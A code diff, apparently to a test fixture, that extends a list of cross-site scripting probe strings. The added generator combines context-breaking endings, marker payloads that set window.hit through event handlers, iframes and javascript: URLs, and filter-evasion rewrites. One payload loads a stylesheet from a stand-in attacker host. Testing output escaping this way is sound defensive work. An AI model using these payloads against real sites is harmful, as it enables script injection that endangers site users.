@@ -1,4 +1,9 @@
-"""Texts that would run in a page that prints them as they are, for every place of one."""
+"""Texts that would run in a page that prints them as they are, for every place of one.
+
+Those that run set ``window.hit``: a browser can be asked whether one did.
+"""
+
+from itertools import product
 
 TEXTS = (
     "<script>alert(1)</script>",
@@ -69,3 +74,32 @@ TEXTS = (
     "<x/<y onclick=alert(1)//>",
     "<b><i></b></i></div></main></body></html>",
 )
+
+# What ends the place a text may stand in, what then runs, and how it may be written.
+_ENDS = ("", '"', "'", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>")
+_RUNS = (
+    "<script>window.hit=1</script>",
+    "<img src=x onerror=window.hit=1>",
+    "<svg onload=window.hit=1>",
+    "<details open ontoggle=window.hit=1>",
+    "<input autofocus onfocus=window.hit=1>",
+    "<video><source onerror=window.hit=1></video>",
+    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
+    "<iframe src='javascript:parent.hit=1'></iframe>",
+    "<body onpageshow=window.hit=1>",
+    "<link rel=stylesheet href=//evil.example/x>",
+)
+_WAYS = (
+    str,
+    str.upper,
+    str.swapcase,
+    lambda text: text.replace(" ", "/"),
+    lambda text: text.replace(" ", "\t"),
+    lambda text: text.replace("<", "<<"),
+)
+
+
+def made() -> list[str]:
+    """All endings with all that runs, written in every way; each once, in order."""
+    every = (end + way(run) for end, run, way in product(_ENDS, _RUNS, _WAYS))
+    return list(dict.fromkeys(every))
